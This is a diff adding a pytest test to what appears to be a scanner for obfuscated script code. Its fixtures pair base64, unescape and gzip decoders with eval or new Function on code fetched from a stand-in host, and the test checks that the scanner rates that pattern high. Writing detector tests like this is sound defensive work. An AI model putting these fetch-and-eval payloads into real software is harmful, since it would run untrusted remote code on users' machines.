@@ -58,3 +58,24 @@ def test_a_text_of_which_only_its_place_is_known(library: str) -> None:
     assert worst("unreadable", known, "sample/__init__.py") is None
     asked = "def go():\n    " + early.replace("\n", "\n    ")
     assert worst("unreadable", asked, "sample/__init__.py") is None
+
+
+UNREAD = [
+    "eval(TEXT)",
+    "eval(atob(TEXT))",
+    "eval(unescape(TEXT))",
+    "eval(JSON.parse(TEXT).code)",
+    "new Function(JSON.parse(atob(TEXT)).code)()",
+    "eval(require('zlib').gunzipSync(Buffer.from(TEXT, 'base64')).toString())",
+]
+
+
+@pytest.mark.parametrize("text", UNREAD)
+def test_no_decoder_hides_from_where_a_text_came(text: str) -> None:
+    asked = (
+        f"require('some-lib')('https://a.example.invalid').then(r => {text.replace('TEXT', 'r')})"
+    )
+    assert worst_script("unreadable", asked) is Severity.HIGH
+    shown = asked.replace("eval(", "console.log(").replace("new Function(", "String(")
+    assert worst_script("unreadable", shown) is None
+    assert worst_script("unreadable", f"exports.go = (r) => {text.replace('TEXT', 'r')}") is None
